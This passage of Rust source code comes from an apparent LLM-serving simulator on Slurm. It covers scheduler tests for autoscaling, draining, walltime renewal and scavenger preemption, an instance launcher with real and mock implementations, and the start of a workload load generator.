        cycle(&sched, &clock);
        let mut ports: Vec<u16> = sched
            .routing
            .instances("a")
            .into_iter()
            .chain(sched.routing.instances("b"))
            .map(|i| i.port)
            .collect();
        assert_eq!(ports.len(), 6);
        ports.sort();
        ports.dedup();
        assert_eq!(ports.len(), 6, "port collision");
    }

    #[test]
    fn scales_up_under_demand_and_down_when_idle() {
        let (sched, clock, launcher, _s) = setup(vec![svc("m", 1, 4)]);
        sched.run_once();
        launcher.all_healthy();
        cycle(&sched, &clock);
        assert_eq!(sched.routing.instances("m").len(), 1);

        // Sustained demand: 10 concurrent requests, target 4/instance -> 3.
        let guards: Vec<_> = (0..10).map(|_| sched.demand.begin("m")).collect();
        for _ in 0..13 {
            cycle(&sched, &clock);
        }
        assert_eq!(
            sched.routing.instances("m").len(),
            3,
            "avg 10 / target 4 -> 3 instances"
        );

        // Demand drains; after the window passes, scale back to min.
        drop(guards);
        for _ in 0..20 {
            cycle(&sched, &clock);
        }
        assert_eq!(sched.routing.instances("m").len(), 1);
        assert!(!launcher.terminated.lock().unwrap().is_empty());
    }

    #[test]
    fn keep_alive_floors_scale_from_zero_until_idle_timeout() {
        // A scale-from-zero group (min 0) with a 60 s keep-alive: demand
        // wakes it, and after demand drains one replica stays warm until
        // the keep-alive window expires — then the group returns to zero.
        let mut spec = svc("m", 0, 2);
        spec.keep_alive = Duration::from_secs(60);
        let (sched, clock, launcher, _s) = setup(vec![spec]);
        sched.run_once();
        assert!(sched.routing.instances("m").is_empty(), "idle group must stay at zero");

        let guard = sched.demand.begin("m");
        let r = cycle(&sched, &clock);
        assert_eq!(r.submitted.len(), 1, "demand did not wake the group");
        launcher.all_healthy();
        cycle(&sched, &clock);

        // Demand drains. The windowed average decays over demand_window
        // (60 s = 12 cycles); the keep-alive floor holds one replica for a
        // further 60 s past the last busy sample.
        drop(guard);
        for _ in 0..20 {
            cycle(&sched, &clock);
            launcher.all_healthy();
            assert!(
                !sched.routing.instances("m").is_empty(),
                "replica reaped inside the keep-alive window"
            );
        }
        // Past the keep-alive window: scale back to zero.
        let mut emptied = false;
        for _ in 0..20 {
            cycle(&sched, &clock);
            if sched.routing.instances("m").is_empty() {
                emptied = true;
                break;
            }
        }
        assert!(emptied, "keep-alive floor never released the warm replica");
    }

    #[test]
    fn respects_max_instances() {
        let (sched, clock, _l, _s) = setup(vec![svc("m", 1, 2)]);
        sched.run_once();
        let _guards: Vec<_> = (0..100).map(|_| sched.demand.begin("m")).collect();
        for _ in 0..10 {
            cycle(&sched, &clock);
        }
        assert_eq!(sched.routing.instances("m").len(), 2, "capped at max");
    }

    #[test]
    fn node_failure_recovers() {
        let (sched, clock, launcher, slurm) = setup(vec![svc("m", 1, 4)]);
        sched.run_once();
        cycle(&sched, &clock); // job starts, instance launched
        launcher.all_healthy();
        cycle(&sched, &clock); // probe succeeds
        let inst = sched.routing.instances("m")[0].clone();
        assert!(inst.ready);

        // Kill the node under the instance.
        slurm.lock().unwrap().fail_node(&inst.node, clock.now_us());
        let r = cycle(&sched, &clock);
        // Old instance gone, replacement submitted within the same run.
        assert!(sched.routing.instances("m").iter().all(|i| i.job_id != inst.job_id));
        assert_eq!(r.submitted.len(), 1);
        assert!(launcher.terminated.lock().unwrap().contains(&inst.job_id));
        // The dead instance's reserved port is released — unless the
        // replacement (randomly) drew the same one, nothing may hold it.
        assert!(
            !sched.routing.port_in_use(inst.port)
                || sched.routing.instances("m").iter().any(|i| i.port == inst.port),
            "node failure leaked reserved port {}",
            inst.port
        );
    }

    #[test]
    fn resubmit_backoff_dampens_crash_loops() {
        // With the damper configured, an abnormal death defers the
        // replacement instead of resubmitting on the next keepalive tick.
        let cfg = SchedulerConfig {
            resubmit_backoff: Some(RetryPolicy::new(
                3,
                Duration::from_secs(60),
                Duration::from_secs(480),
            )),
            ..SchedulerConfig::default()
        };
        let (sched, clock, launcher, slurm) =
            setup_on(ClusterSpec::kisski(), vec![svc("m", 1, 1)], cfg);
        sched.run_once();
        cycle(&sched, &clock);
        launcher.all_healthy();
        cycle(&sched, &clock);
        let inst = sched.routing.instances("m")[0].clone();
        assert!(inst.ready);

        // Node dies. The seed behaviour resubmits within the same run;
        // the damper must hold the replacement back for >= 60 s (the
        // backoff base), i.e. at least the next 11 five-second cycles.
        slurm.lock().unwrap().fail_node(&inst.node, clock.now_us());
        let r = cycle(&sched, &clock);
        assert!(r.submitted.is_empty(), "resubmitted during holdoff: {r:?}");
        let mut first_submit_cycle = None;
        for i in 0..60 {
            let r = cycle(&sched, &clock);
            if !r.submitted.is_empty() {
                first_submit_cycle = Some(i);
                break;
            }
        }
        let c = first_submit_cycle.expect("replacement never submitted after holdoff");
        assert!(c >= 10, "holdoff shorter than the backoff base: {c} cycles");

        // The replacement comes up healthy: the holdoff clears, so a later
        // failure starts from a fresh (short) schedule rather than the
        // grown one.
        cycle(&sched, &clock); // replacement job starts, instance launches
        launcher.all_healthy();
        let r = cycle(&sched, &clock);
        assert!(!r.became_ready.is_empty());
        assert!(sched.resubmit.lock().unwrap().is_empty(), "holdoff not cleared on ready");
    }

    #[test]
    fn renewal_before_walltime_keeps_service_alive() {
        let mut spec = svc("m", 1, 4);
        spec.walltime = Duration::from_secs(600);
        let (sched, clock, launcher, _s) = setup(vec![spec]);
        let cfg_margin = Duration::from_secs(300);
        assert_eq!(SchedulerConfig::default().renew_margin, cfg_margin);

        sched.run_once();
        launcher.all_healthy();
        cycle(&sched, &clock);
        let first = sched.routing.instances("m")[0].job_id;

        // Walk to within the renew margin: a replacement appears.
        let mut renewed = false;
        for _ in 0..130 {
            let r = cycle(&sched, &clock);
            launcher.all_healthy();
            if !r.renewed.is_empty() {
                renewed = true;
                break;
            }
        }
        assert!(renewed, "no renewal before walltime");
        // After the old job times out, the service still has an instance.
        for _ in 0..80 {
            cycle(&sched, &clock);
            launcher.all_healthy();
        }
        let insts = sched.routing.instances("m");
        assert!(!insts.is_empty());
        assert!(insts.iter().all(|i| i.job_id != first), "old job expired");
    }

    #[test]
    fn lock_prevents_concurrent_runs() {
        let (sched, _c, _l, _s) = setup(vec![svc("m", 1, 1)]);
        let sched = Arc::new(sched);
        // Hold the lock manually and observe the skip.
        sched.lock.store(true, Ordering::SeqCst);
        let r = sched.run_once();
        assert!(r.skipped_locked);
        sched.lock.store(false, Ordering::SeqCst);
        let r = sched.run_once();
        assert!(!r.skipped_locked);
    }

    #[test]
    fn comment_parsing() {
        assert_eq!(
            ServiceScheduler::parse_comment("service=m;port=1234"),
            Some(("m".into(), 1234, false))
        );
        assert_eq!(
            ServiceScheduler::parse_comment("service=m;port=9;tier=scavenger"),
            Some(("m".into(), 9, true))
        );
        assert_eq!(ServiceScheduler::parse_comment("garbage"), None);
        assert_eq!(ServiceScheduler::parse_comment("service=m"), None);
    }

    #[test]
    fn scale_down_cancels_pending_first_then_drains_youngest_running() {
        // 1 node × 4 GPUs, 2-GPU instances: at desired=3 the third job can
        // only pend — the exact mix the victim ordering is specified for.
        let (sched, clock, launcher, slurm) =
            setup_on(small_cluster(4), vec![svc("m", 1, 4)], SchedulerConfig::default());
        sched.run_once();
        cycle(&sched, &clock); // oldest starts
        launcher.all_healthy();
        cycle(&sched, &clock);
        let oldest = sched.routing.instances("m")[0].job_id;

        let guards: Vec<_> = (0..12).map(|_| sched.demand.begin("m")).collect();
        for _ in 0..15 {
            cycle(&sched, &clock);
            launcher.all_healthy();
        }
        let jobs = slurm.lock().unwrap().squeue();
        let running: Vec<&JobInfo> = jobs
            .iter()
            .filter(|j| j.name == "svc-m" && j.state == JobState::Running)
            .collect();
        let pending: Vec<&JobInfo> = jobs
            .iter()
            .filter(|j| j.name == "svc-m" && j.state == JobState::Pending)
            .collect();
        assert_eq!(running.len(), 2, "cluster fits two 2-GPU instances");
        assert_eq!(pending.len(), 1, "third desired replica can only pend");
        let pending_id = pending[0].id;
        let youngest = running
            .iter()
            .max_by_key(|j| (j.start_us.unwrap_or(0), j.id))
            .unwrap()
            .id;
        assert_ne!(youngest, oldest);

        // Keep one request in flight on the youngest running instance: the
        // seed behaviour would have scancelled it mid-request.
        let inflight = sched.routing.begin_request(youngest);

        // Demand collapses. Victim order: the pending job is cancelled
        // outright; the youngest running one is drained, NOT killed.
        drop(guards);
        let mut cancelled = Vec::new();
        let mut drained = Vec::new();
        for _ in 0..13 {
            let r = cycle(&sched, &clock);
            cancelled.extend(r.cancelled.clone());
            drained.extend(r.drained.clone());
        }
        assert!(cancelled.contains(&pending_id), "pending victim not cancelled");
        assert!(drained.contains(&youngest), "running victim not drained");
        assert!(
            !drained.contains(&pending_id),
            "pending victims must be cancelled outright, not drained"
        );
        assert!(
            !cancelled.contains(&youngest),
            "drained instance was cancelled while a request was in flight"
        );
        let pos_cancel = cancelled.iter().position(|&id| id == pending_id).unwrap();
        assert_eq!(pos_cancel, 0, "pending victim must go first");
        assert_eq!(
            slurm.lock().unwrap().job(youngest).unwrap().state,
            JobState::Running,
            "in-flight instance killed"
        );
        // Draining: no new placements land on it.
        let mut rng = crate::util::rng::Rng::new(1);
        for _ in 0..20 {
            assert_eq!(sched.routing.pick_least_loaded("m", &mut rng).unwrap().job_id, oldest);
        }
        // The request finishes -> the drain completes with a scancel.
        drop(inflight);
        let r = cycle(&sched, &clock);
        assert!(r.cancelled.contains(&youngest), "drain did not complete");
        assert_eq!(
            slurm.lock().unwrap().job(youngest).unwrap().state,
            JobState::Cancelled
        );
        assert_eq!(sched.routing.instances("m").len(), 1);
        assert_eq!(sched.routing.instances("m")[0].job_id, oldest, "oldest survives");
    }

    #[test]
    fn walltime_drain_never_kills_inflight_requests() {
        let mut spec = svc("m", 1, 4);
        spec.walltime = Duration::from_secs(600);
        let (sched, clock, launcher, slurm) =
            setup_on(ClusterSpec::kisski(), vec![spec], SchedulerConfig::default());
        sched.run_once();
        cycle(&sched, &clock);
        launcher.all_healthy();
        cycle(&sched, &clock);
        let old = sched.routing.instances("m")[0].job_id;
        let inflight = sched.routing.begin_request(old);

        // Walk to the renew margin: a replacement appears, and once it is
        // ready the old instance flips to draining — while its in-flight
        // request keeps it alive.
        let mut drained = false;
        for _ in 0..80 {
            let r = cycle(&sched, &clock);
            launcher.all_healthy();
            assert_eq!(
                slurm.lock().unwrap().job(old).unwrap().state,
                JobState::Running,
                "old instance killed while a request was in flight"
            );
            if r.drained.contains(&old) {
                drained = true;
                break;
            }
        }
        assert!(drained, "old instance never drained before walltime");
        let insts = sched.routing.instances("m");
        assert!(insts.iter().any(|i| i.job_id == old && i.draining));
        let replacement =
            insts.iter().find(|i| i.job_id != old).expect("replacement missing").job_id;
        let mut rng = crate::util::rng::Rng::new(2);
        for _ in 0..20 {
            assert_eq!(
                sched.routing.pick_least_loaded("m", &mut rng).unwrap().job_id,
                replacement,
                "draining instance still receiving placements"
            );
        }
        // The request completes inside the drain window: clean scancel,
        // zero walltime (TIMEOUT) kills.
        drop(inflight);
        cycle(&sched, &clock);
        assert_eq!(slurm.lock().unwrap().job(old).unwrap().state, JobState::Cancelled);
        assert!(
            slurm
                .lock()
                .unwrap()
                .squeue()
                .iter()
                .all(|j| j.state != JobState::Timeout),
            "a service job died by walltime expiry despite draining"
        );
    }

    #[test]
    fn same_aged_cohort_drains_paired_with_ready_replacements_only() {
        // Three replicas provisioned in one burst expire together. At the
        // renew margin they must NOT cascade-drain against each other —
        // every drain needs a distinct *ready, non-expiring* replacement.
        let mut spec = svc("m", 3, 3);
        spec.walltime = Duration::from_secs(600);
        let (sched, clock, launcher, slurm) =
            setup_on(ClusterSpec::kisski(), vec![spec], SchedulerConfig::default());
        sched.run_once();
        cycle(&sched, &clock);
        launcher.all_healthy();
        cycle(&sched, &clock);
        let originals: BTreeSet<JobId> =
            sched.routing.instances("m").iter().map(|i| i.job_id).collect();
        assert_eq!(originals.len(), 3);
        assert_eq!(sched.routing.routable_instances("m").len(), 3);

        // Walk into the renew margin while replacements stay cold (no
        // all_healthy): renewals are submitted but nothing may drain —
        // the old cohort is still the only serving capacity.
        let mut renewed = false;
        for _ in 0..80 {
            let r = cycle(&sched, &clock);
            renewed |= !r.renewed.is_empty();
            assert!(
                r.drained.is_empty(),
                "cohort cascade-drained with no ready replacement: {r:?}"
            );
            assert_eq!(sched.routing.routable_instances("m").len(), 3);
        }
        assert!(renewed, "renewals never submitted");

        // Replacements become ready: the originals drain (paired) and,
        // idle, are cancelled — capacity never dips below 3.
        for _ in 0..6 {
            launcher.all_healthy();
            cycle(&sched, &clock);
            assert!(sched.routing.routable_instances("m").len() >= 3);
        }
        let survivors: Vec<JobId> =
            sched.routing.routable_instances("m").iter().map(|i| i.job_id).collect();
        assert_eq!(survivors.len(), 3);
        assert!(survivors.iter().all(|id| !originals.contains(id)), "old cohort lingers");
        for id in &originals {
            assert_eq!(
                slurm.lock().unwrap().job(*id).unwrap().state,
                JobState::Cancelled,
                "original replica not cleanly cancelled"
            );
        }
    }

    #[test]
    fn scavengers_serve_demand_overflow_from_schedule_gaps() {
        // 1 node × 8 GPUs: one guaranteed 2-GPU replica leaves a 6-GPU gap.
        let mut spec = svc("m", 1, 1);
        spec.max_scavengers = 2;
        let (sched, clock, launcher, slurm) =
            setup_on(small_cluster(8), vec![spec], SchedulerConfig::default());
        sched.run_once();
        cycle(&sched, &clock);
        launcher.all_healthy();
        cycle(&sched, &clock);
        assert_eq!(sched.routing.routable_instances("m").len(), 1);

        // Demand for 3 replicas; the guaranteed tier is capped at 1 — the
        // overflow is served by scavengers squeezed into the gap.
        let _guards: Vec<_> = (0..12).map(|_| sched.demand.begin("m")).collect();
        let mut scavenged = Vec::new();
        for _ in 0..15 {
            let r = cycle(&sched, &clock);
            launcher.all_healthy();
            scavenged.extend(r.scavenged.clone());
        }
        assert_eq!(scavenged.len(), 2, "scavenger submissions");
        let insts = sched.routing.routable_instances("m");
        assert_eq!(insts.len(), 3, "guaranteed + 2 scavengers all serving");
        assert_eq!(insts.iter().filter(|i| i.scavenger).count(), 2);
        // Scavenger jobs carry the inverted Slurm posture: below-batch
        // priority, short walltime, the tier tag.
        let cfg = SchedulerConfig::default();
        for id in &scavenged {
            let j = slurm.lock().unwrap().job(*id).unwrap();
            assert_eq!(j.priority, cfg.scavenger_priority);
            assert!(j.comment.contains("tier=scavenger"), "{}", j.comment);
        }
        // The tier never exceeds its cap even under far higher demand.
        let _more: Vec<_> = (0..60).map(|_| sched.demand.begin("m")).collect();
        for _ in 0..15 {
            let r = cycle(&sched, &clock);
            launcher.all_healthy();
            assert!(r.scavenged.is_empty(), "scavenger cap exceeded");
        }
    }

    #[test]
    fn scavenger_submission_respects_backfill_window() {
        // 1 node × 8 GPUs. Guaranteed replica holds 2; a 4-GPU batch job
        // runs for a while; a blocked 6-GPU batch job reserves a shadow
        // right after it — the 2 free GPUs are NOT a gap a 900 s scavenger
        // fits, so none may be submitted.
        let mut spec = svc("m", 1, 1);
        spec.max_scavengers = 2;
        let (sched, clock, launcher, slurm) =
            setup_on(small_cluster(8), vec![spec], SchedulerConfig::default());
        sched.run_once();
        cycle(&sched, &clock);
        launcher.all_healthy();
        cycle(&sched, &clock);
        slurm.lock().unwrap().sbatch(
            crate::slurm::JobSpec {
                name: "batch-running".into(),
                gpus_per_node: 4,
                time_limit: Duration::from_secs(500),
                duration: Some(Duration::from_secs(500)),
                ..Default::default()
            },
            clock.now_us(),
        );
        cycle(&sched, &clock); // the 4-GPU batch job starts: 2 GPUs left
        slurm.lock().unwrap().sbatch(
            crate::slurm::JobSpec {
                name: "batch-blocked".into(),
                gpus_per_node: 6,
                priority: 1,
                time_limit: Duration::from_secs(500),
                duration: Some(Duration::from_secs(500)),
                ..Default::default()
            },
            clock.now_us(),
        );
        let _guards: Vec<_> = (0..12).map(|_| sched.demand.begin("m")).collect();
        let mut blocked_id = 0;
        for _ in 0..15 {
            let r = cycle(&sched, &clock);
            launcher.all_healthy();
            assert!(
                r.scavenged.is_empty(),
                "scavenger submitted into a window it cannot fit"
            );
            blocked_id = slurm
                .lock()
                .unwrap()
                .squeue()
                .iter()
                .find(|j| j.name == "batch-blocked")
                .unwrap()
                .id;
        }
        // The blocked job goes away -> the window opens -> exactly one
        // scavenger fits the 2 remaining free GPUs.
        slurm.lock().unwrap().scancel(blocked_id, clock.now_us());
        let r = cycle(&sched, &clock);
        assert_eq!(r.scavenged.len(), 1, "gap opened but no scavenger followed");
    }

    #[test]
    fn preemption_notice_drains_scavengers_and_batch_reclaims_gpus() {
        let mut spec = svc("m", 1, 1);
        spec.max_scavengers = 2;
        let (sched, clock, launcher, slurm) =
            setup_on(small_cluster(8), vec![spec], SchedulerConfig::default());
        slurm.lock().unwrap().set_preempt_grace(Duration::from_secs(60));
        sched.run_once();
        cycle(&sched, &clock);
        launcher.all_healthy();
        cycle(&sched, &clock);
        let _guards: Vec<_> = (0..12).map(|_| sched.demand.begin("m")).collect();
        for _ in 0..15 {
            cycle(&sched, &clock);
            launcher.all_healthy();
        }
        let scavs: Vec<JobId> = sched
            .routing
            .instances("m")
            .iter()
            .filter(|i| i.scavenger)
            .map(|i| i.job_id)
            .collect();
        assert_eq!(scavs.len(), 2);

        // Ordinary batch work arrives needing the scavengers' GPUs: the
        // sim serves notices; the scheduler drains; idle scavengers are
        // scancelled immediately; the batch job starts next tick.
        let batch = slurm.lock().unwrap().sbatch(
            crate::slurm::JobSpec {
                name: "batch-reclaim".into(),
                gpus_per_node: 6,
                time_limit: Duration::from_secs(500),
                duration: Some(Duration::from_secs(500)),
                ..Default::default()
            },
            clock.now_us(),
        );
        let r = cycle(&sched, &clock);
        assert_eq!(r.preempted.len(), 2, "both scavengers noticed: {r:?}");
        assert!(scavs.iter().all(|id| r.preempted.contains(id)));
        // Nothing in flight -> drained and scancelled in the same run.
        assert!(scavs.iter().all(|id| r.cancelled.contains(id)));
        cycle(&sched, &clock);
        assert_eq!(
            slurm.lock().unwrap().job(batch).unwrap().state,
            JobState::Running,
            "batch job did not reclaim the scavenged GPUs"
        );
        assert!(sched.routing.instances("m").iter().all(|i| !i.scavenger));
    }

    #[test]
    fn non_service_jobs_ignored() {
        let (sched, clock, launcher, slurm) = setup(vec![svc("m", 1, 1)]);
        // A regular batch job shares the cluster.
        slurm.lock().unwrap().sbatch(
            crate::slurm::JobSpec {
                name: "training-run".into(),
                gpus_per_node: 4,
                duration: Some(Duration::from_secs(100)),
                ..Default::default()
            },
            0,
        );
        sched.run_once();
        cycle(&sched, &clock);
        // Only the service instance was launched.
        assert_eq!(launcher.launched.lock().unwrap().len(), 1);
    }
}
