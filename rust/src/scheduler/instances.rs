//! Instance lifecycle: what actually runs inside a service job.
//!
//! When the Slurm simulator starts a service job, something must listen on
//! the job's `(node, port)` and serve inference. [`RealLauncher`] boots a
//! real [`LlmHttpServer`] (SimBackend for the paper's big models, PJRT for
//! `tiny`) after the model's simulated load time — reproducing the paper's
//! cold-start behaviour (§7.1.1: up to ten minutes to load a 70B model,
//! during which the readiness probe fails). [`MockLauncher`] is the
//! deterministic stand-in for scheduler unit tests.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::llmserver::backend::{PjrtBackend, SimBackend};
use crate::llmserver::engine::{Engine, EngineConfig};
use crate::llmserver::LlmHttpServer;
use crate::slurm::JobId;
use crate::util::clock::{Clock, WallClock};
use crate::util::http;
use crate::util::metrics::Registry;

use super::ServiceSpec;

/// Which compute backs a service instance.
#[derive(Debug, Clone)]
pub enum BackendKind {
    /// Calibrated timing model (`SimProfile::by_name`), with a wall-time
    /// scale factor (1.0 = realistic, small = sped-up benches).
    Sim { profile: String, time_scale: f64 },
    /// The real AOT-compiled model through PJRT.
    Pjrt { model: String },
}

/// Launches/terminates whatever serves a job, and probes readiness.
pub trait InstanceLauncher: Send + Sync {
    fn launch(&self, job_id: JobId, service: &ServiceSpec, node: &str, port: u16);
    fn terminate(&self, job_id: JobId);
    /// Health probe (the scheduler calls this until it succeeds, then marks
    /// the instance ready in the routing table).
    fn probe(&self, addr: &str) -> bool;
}

/// Real instances: an engine + HTTP server per job.
pub struct RealLauncher {
    metrics: Registry,
    /// Model-load wall-time scale (1.0 = realistic cold starts).
    load_time_scale: f64,
    /// Engine tuning applied to every launched instance (the abandonment
    /// bench flips `abort_on_disconnect` off for its baseline).
    engine_config: EngineConfig,
    artifacts_dir: std::path::PathBuf,
    /// Where the model-load delay is charged (wall clock by default).
    clock: Arc<dyn Clock>,
    state: Mutex<BTreeMap<JobId, Arc<InstanceState>>>,
}

struct InstanceState {
    cancelled: AtomicBool,
    server: Mutex<Option<LlmHttpServer>>,
}

impl RealLauncher {
    pub fn new(metrics: Registry, load_time_scale: f64) -> RealLauncher {
        RealLauncher {
            metrics,
            load_time_scale,
            engine_config: EngineConfig::default(),
            artifacts_dir: crate::runtime::artifacts_dir(),
            clock: WallClock::new(),
            state: Mutex::new(BTreeMap::new()),
        }
    }

    /// Builder: time source the cold-start load delay sleeps against.
    pub fn with_clock(mut self, clock: Arc<dyn Clock>) -> RealLauncher {
        self.clock = clock;
        self
    }

    pub fn with_artifacts(mut self, dir: std::path::PathBuf) -> RealLauncher {
        self.artifacts_dir = dir;
        self
    }

    pub fn with_engine_config(mut self, cfg: EngineConfig) -> RealLauncher {
        self.engine_config = cfg;
        self
    }
}

impl InstanceLauncher for RealLauncher {
    fn launch(&self, job_id: JobId, service: &ServiceSpec, _node: &str, port: u16) {
        let st = Arc::new(InstanceState {
            cancelled: AtomicBool::new(false),
            server: Mutex::new(None),
        });
        self.state.lock().unwrap().insert(job_id, st.clone());
        let backend = service.backend.clone();
        let metrics = self.metrics.clone();
        let load_scale = self.load_time_scale;
        let engine_cfg = self.engine_config.clone();
        let artifacts = self.artifacts_dir.clone();
        let service_name = service.name.clone();
        let clock = self.clock.clone();
        std::thread::spawn(move || {
            // Simulated model-load delay: the port stays unbound, so
            // readiness probes get connection-refused — the cold start.
            let load_secs = match &backend {
                BackendKind::Sim { profile, .. } => crate::llmserver::SimProfile::by_name(profile)
                    .map(|p| p.load_secs)
                    .unwrap_or(10.0),
                BackendKind::Pjrt { .. } => 2.0,
            };
            metrics
                .counter("launcher_model_load_total", &[("service", &service_name)])
                .inc();
            let delay = Duration::from_secs_f64(load_secs * load_scale);
            if !delay.is_zero() {
                clock.sleep(delay);
            }
            if st.cancelled.load(Ordering::SeqCst) {
                return;
            }
            let engine = match &backend {
                BackendKind::Sim { profile, time_scale } => {
                    match SimBackend::by_name(profile, *time_scale) {
                        Some(b) => Engine::start(Box::new(b), engine_cfg, metrics),
                        None => {
                            crate::log_warn!("launcher", "unknown profile {profile}");
                            return;
                        }
                    }
                }
                BackendKind::Pjrt { model } => match PjrtBackend::load(&artifacts, model) {
                    Ok(b) => {
                        // The AOT prefill HLO cannot start at an offset:
                        // real-model instances run unchunked with the
                        // prefix cache off (DESIGN.md §Prefix cache).
                        let cfg = EngineConfig {
                            prefill_chunk: 0,
                            prefix_cache: false,
                            ..engine_cfg
                        };
                        Engine::start(Box::new(b), cfg, metrics)
                    }
                    Err(e) => {
                        crate::log_warn!("launcher", "pjrt load failed: {e}");
                        return;
                    }
                },
            };
            match LlmHttpServer::start_on(&format!("127.0.0.1:{port}"), engine) {
                Ok(server) => {
                    crate::log_info!(
                        "launcher",
                        "job {job_id} ({service_name}) serving on :{port}"
                    );
                    let mut slot = st.server.lock().unwrap();
                    if st.cancelled.load(Ordering::SeqCst) {
                        return; // terminated during bind; drop the server
                    }
                    *slot = Some(server);
                }
                Err(e) => crate::log_warn!("launcher", "bind :{port} failed: {e}"),
            }
        });
    }

    fn terminate(&self, job_id: JobId) {
        if let Some(st) = self.state.lock().unwrap().remove(&job_id) {
            st.cancelled.store(true, Ordering::SeqCst);
            if let Some(mut server) = st.server.lock().unwrap().take() {
                server.server.stop();
            }
        }
    }

    fn probe(&self, addr: &str) -> bool {
        http::request_timeout(
            "GET",
            &format!("http://{addr}/health"),
            &[],
            &[],
            Duration::from_millis(500),
        )
        .map(|r| r.status == 200)
        .unwrap_or(false)
    }
}

/// Test double: records calls; readiness is scripted.
#[derive(Default)]
pub struct MockLauncher {
    pub launched: Mutex<Vec<(JobId, String, String, u16)>>,
    pub terminated: Mutex<Vec<JobId>>,
    /// Addresses that should probe healthy.
    pub healthy: Mutex<std::collections::BTreeSet<String>>,
}

impl MockLauncher {
    pub fn new() -> Arc<MockLauncher> {
        Arc::new(MockLauncher::default())
    }

    pub fn set_healthy(&self, addr: &str, healthy: bool) {
        let mut h = self.healthy.lock().unwrap();
        if healthy {
            h.insert(addr.to_string());
        } else {
            h.remove(addr);
        }
    }

    /// Mark every launched instance healthy (instant model load).
    pub fn all_healthy(&self) {
        let launched = self.launched.lock().unwrap();
        let mut h = self.healthy.lock().unwrap();
        for (_, _, _, port) in launched.iter() {
            h.insert(format!("127.0.0.1:{port}"));
        }
    }
}

impl InstanceLauncher for MockLauncher {
    fn launch(&self, job_id: JobId, service: &ServiceSpec, node: &str, port: u16) {
        self.launched.lock().unwrap().push((
            job_id,
            service.name.clone(),
            node.to_string(),
            port,
        ));
    }

    fn terminate(&self, job_id: JobId) {
        self.terminated.lock().unwrap().push(job_id);
    }

    fn probe(&self, addr: &str) -> bool {
        self.healthy.lock().unwrap().contains(addr)
    }
}
