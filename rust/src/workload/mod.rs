//! Workload generation + latency probing (§6.3's methodology).
//!
//! The paper measures latency with a custom shell script (50 identical
//! probes per stage, Table 1) and throughput with Locust (Table 2). This
//! module is the equivalent harness: [`probe_stage`] produces Table 1 rows
//! and [`LoadGen`] runs closed-loop multi-worker load like a Locust user
//! swarm.

pub mod scenarios;
pub mod trace;

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Mutex;
use std::time::{Duration, Instant};

use crate::util::bench::{stats, Stats};
use crate::util::json::Json;
use crate::util::rng::Rng;

/// One Table-1 row: a named pipeline stage measured over N probes.
#[derive(Debug, Clone)]
pub struct StageResult {
    pub component: String,
    pub operation: String,
    pub stats: Stats,
    /// Aggregated average in ms (this stage includes all previous ones),
    /// mirroring Table 1's "Agg. Avg." column.
    pub agg_avg_ms: f64,
    /// Latency attributable to this stage alone ("Diff." column).
    pub diff_ms: f64,
}

/// Run `n` probes of a stage and build its row. `agg_prev_ms` is the
/// aggregated average of the previous stage (0 for the first).
pub fn probe_stage(
    component: &str,
    operation: &str,
    n: usize,
    agg_prev_ms: f64,
    mut probe: impl FnMut(),
) -> StageResult {
    // One warmup probe to exclude connection setup noise, as a shell
    // script's first curl would be discarded.
    probe();
    let mut samples = Vec::with_capacity(n);
    for _ in 0..n {
        let t = Instant::now();
        probe();
        samples.push(t.elapsed().as_secs_f64());
    }
    let s = stats(&samples);
    let agg_avg_ms = s.mean * 1e3;
    StageResult {
        component: component.to_string(),
        operation: operation.to_string(),
        stats: s,
        agg_avg_ms,
        diff_ms: agg_avg_ms - agg_prev_ms,
    }
}

/// Closed-loop load generator (Locust-style user swarm).
pub struct LoadGen {
    pub workers: usize,
    pub duration: Duration,
}

/// Aggregate result of one load run.
#[derive(Debug, Clone)]
pub struct LoadResult {
    pub rps: f64,
    pub ok: u64,
    pub errors: u64,
    pub latency: Stats,
}

impl LoadGen {
    pub fn new(workers: usize, duration: Duration) -> LoadGen {
        LoadGen { workers, duration }
    }

    /// Hammer `op` from `workers` threads for the configured duration.
    /// `op` returns Ok to count a success.
    pub fn run(&self, op: impl Fn() -> Result<(), String> + Send + Sync) -> LoadResult {
        let stop = AtomicBool::new(false);
        let ok = AtomicU64::new(0);
        let errors = AtomicU64::new(0);
        let latencies: Mutex<Vec<f64>> = Mutex::new(Vec::new());
        let start = Instant::now();
        std::thread::scope(|s| {
            for _ in 0..self.workers {
                s.spawn(|| {
                    let mut local = Vec::new();
                    while !stop.load(Ordering::Relaxed) {
                        let t = Instant::now();
                        match op() {
                            Ok(()) => {
                                ok.fetch_add(1, Ordering::Relaxed);
                                local.push(t.elapsed().as_secs_f64());
                            }
                            Err(_) => {
                                errors.fetch_add(1, Ordering::Relaxed);
                            }
                        }
                    }
                    latencies.lock().unwrap().extend(local);
                });
            }
            s.spawn(|| {
                std::thread::sleep(self.duration);
                stop.store(true, Ordering::Relaxed);
            });
        });
        let elapsed = start.elapsed().as_secs_f64();
        let ok_n = ok.load(Ordering::Relaxed);
        let lat = latencies.into_inner().unwrap();
        LoadResult {
            rps: ok_n as f64 / elapsed,
            ok: ok_n,
            errors: errors.load(Ordering::Relaxed),
            latency: if lat.is_empty() { stats(&[0.0]) } else { stats(&lat) },
        }
    }
}

// ---------------------------------------------------------------------------
// Open-loop arrival process (virtual-time serving sweeps)
// ---------------------------------------------------------------------------

/// Deterministic diurnal Poisson arrivals for the virtual-time harness: a
/// population of users issuing requests as an inhomogeneous Poisson process
/// whose rate swings over a day (the fig3-class traffic shape — quiet
/// nights, busy afternoons). Same `Rng` seed ⇒ byte-identical arrival
/// schedule, which is what makes seed-replay over millions of simulated
/// requests possible.
pub struct DiurnalArrivals {
    /// Distinct user ids arrivals are drawn from (uniformly).
    pub users: usize,
    /// Day-average request rate in requests per (virtual) second.
    pub mean_rps: f64,
    /// Peak-to-mean swing in [0, 1): rate(t) = mean × (1 + amp·sin(…)),
    /// troughing at t = 0 (night) and peaking half a period in.
    pub amplitude: f64,
    /// Length of one diurnal cycle (24 h for the paper's traffic).
    pub period: Duration,
}

impl DiurnalArrivals {
    /// Arrival rate at virtual second `t` (for tests and plotting).
    pub fn rate_at(&self, t_secs: f64) -> f64 {
        let phase = 2.0 * std::f64::consts::PI * (t_secs / self.period.as_secs_f64());
        // Shift so t=0 is the trough: sin(phase - π/2) = -cos(phase).
        self.mean_rps * (1.0 + self.amplitude * -phase.cos())
    }

